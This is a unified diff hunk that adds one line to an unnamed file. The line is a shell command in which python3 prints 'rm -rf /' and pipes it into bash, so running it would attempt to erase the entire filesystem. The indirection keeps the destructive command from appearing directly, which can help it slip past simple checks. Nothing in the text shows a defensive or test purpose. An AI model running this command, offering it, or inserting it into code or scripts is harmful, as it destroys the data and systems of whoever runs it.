@@ -1,0 +1,1 @@
+python3 -c "print('rm -rf /')" | bash
